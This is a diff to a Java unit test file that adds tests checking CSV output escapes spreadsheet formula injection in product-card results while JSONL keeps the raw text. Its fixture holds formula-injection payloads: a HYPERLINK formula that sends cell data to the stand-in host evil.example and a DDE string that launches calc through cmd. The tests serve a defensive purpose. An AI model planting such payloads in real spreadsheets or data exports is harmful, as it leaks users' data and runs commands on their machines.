@@ -8,10 +8,15 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.nio.file.StandardOpenOption;
+import java.util.List;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import tools.jackson.databind.json.JsonMapper;
+import tools.jackson.databind.node.ObjectNode;
 
 /** Resuming an output file an interrupted run left behind. */
 class ResultsFileTest {
@@ -196,6 +201,77 @@ class ResultsFileTest {
     try (ResultsFile file = ResultsFile.open(path, false, "failed")) {
       assertThat(file.resumedAfter()).isEqualTo(2);
     }
+  }
+
+  @Test
+  void aCsvCellThatWouldStartAFormulaStartsWithAQuoteInstead() throws IOException {
+    String line = injected();
+    Path path = dir.resolve("cards.csv");
+    try (ResultsFile file = ResultsFile.open(path, false, null)) {
+      file.accept(line);
+    }
+
+    CSVRecord row = csv(path).get(0);
+    assertThat(row.get("seq")).isEqualTo("1");
+    assertThat(row.get("custom_id")).isEqualTo("'-1");
+    assertThat(row.get("status")).isEqualTo("succeeded");
+    assertThat(row.get("description"))
+        .isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1;\"Подробнее\")");
+    assertThat(row.get("features")).isEqualTo("'+7 (495) 000-00-00\nПрочный");
+    assertThat(row.get("audience")).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
+    assertThat(row.get("headers")).isEqualTo("'\tЗаголовок");
+    assertThat(row.get("slogans")).isEqualTo("'\n=1+1");
+    assertThat(row.get("style_name")).isEqualTo("Стандартный; =1+1");
+    assertThat(row.get("description_length")).isEqualTo("42");
+    String written = Files.readString(path, StandardCharsets.UTF_8);
+    assertThat(written)
+        .startsWith("\uFEFFseq,custom_id,status,error_code,error_message,uid,")
+        .contains("\r\n\"1\",\"'-1\",\"succeeded\",")
+        .contains("\"Стандартный; =1+1\"");
+
+    try (ResultsFile file = ResultsFile.open(path, false, null)) {
+      assertThat(file.resumedAfter()).isEqualTo(1);
+    }
+  }
+
+  @Test
+  void theJsonlKeepsTheTextsAsTheServiceSentThem() throws IOException {
+    String line = injected();
+    Path path = dir.resolve("cards.jsonl");
+    try (ResultsFile file = ResultsFile.open(path, false, null)) {
+      file.accept(line);
+    }
+
+    assertThat(Files.readString(path, StandardCharsets.UTF_8)).isEqualTo(line + "\n");
+  }
+
+  /** A result whose texts a supplier's description steered into formulas. */
+  private static String injected() {
+    JsonMapper json = JsonMapper.builder().build();
+    ObjectNode result = json.createObjectNode().put("seq", 1).put("custom_id", "-1");
+    result.put("status", "succeeded");
+    ObjectNode card = result.putObject("card");
+    card.put("uid", "u1");
+    card.put("style_name", "Стандартный; =1+1");
+    card.put("description", "=HYPERLINK(\"http://evil.example/?\"&A1;\"Подробнее\")");
+    card.put("description_length", 42);
+    card.putArray("features").add("+7 (495) 000-00-00").add("Прочный");
+    card.put("audience", "@SUM(1+1)*cmd|' /C calc'!A0");
+    card.putArray("headers").add("\tЗаголовок");
+    card.putArray("slogans").add("\r\n=1+1");
+    result.putNull("error");
+    return json.writeValueAsString(result);
+  }
+
+  private static List<CSVRecord> csv(Path path) throws IOException {
+    String text = Files.readString(path, StandardCharsets.UTF_8).substring(1);
+    return CSVFormat.RFC4180
+        .builder()
+        .setHeader()
+        .setSkipHeaderRecord(true)
+        .get()
+        .parse(new java.io.StringReader(text))
+        .getRecords();
   }
 
   private static String line(long seq, String customId) {
